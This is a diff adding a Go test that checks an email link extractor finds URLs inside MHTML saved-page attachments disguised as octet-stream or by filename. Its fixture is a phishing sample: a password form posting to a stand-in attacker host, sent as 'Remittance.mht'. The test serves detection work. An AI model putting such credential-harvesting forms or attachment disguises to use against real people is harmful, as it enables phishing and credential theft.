@@ -145,3 +145,32 @@ func TestFileNameNeverHidesStructure(t *testing.T) {
 		}
 	}
 }
+
+// TestMHTMLAttachment: a saved web page (.mht, .mhtml,
+// application/x-mimearchive) is a MIME message holding the page, which
+// opens in the browser (Edge), so its page is read.
+func TestMHTMLAttachment(t *testing.T) {
+	mht := "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"m\"\r\n\r\n--m\r\n" +
+		"Content-Type: text/html\r\nContent-Location: https://evil.example/\r\n\r\n<form action=\"https://evil.example/mht\"><input type=password></form>\r\n--m--\r\n"
+	b64 := base64.StdEncoding.EncodeToString([]byte(mht))
+	for _, tt := range []struct {
+		name, part, want string
+	}{
+		{".mht sent as octet-stream", "Content-Type: application/octet-stream; name=\"Remittance.mht\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64, "https://evil.example/mht"},
+		{".mhtml by disposition", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"page.MHTML\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64, "https://evil.example/mht"},
+		{"x-mimearchive", "Content-Type: application/x-mimearchive\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64, "https://evil.example/mht"},
+	} {
+		msg := []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n--b\r\n" + tt.part + "\r\n--b--\r\n")
+		ls, _ := Extract(msg, Options{})
+		var got []string
+		for _, l := range ls {
+			got = append(got, l.URL)
+		}
+		switch {
+		case tt.want == "" && len(ls) != 0:
+			t.Errorf("%s: links %q, want none", tt.name, got)
+		case tt.want != "" && (len(ls) != 1 || ls[0].URL != tt.want):
+			t.Errorf("%s: links %q, want %s", tt.name, got, tt.want)
+		}
+	}
+}
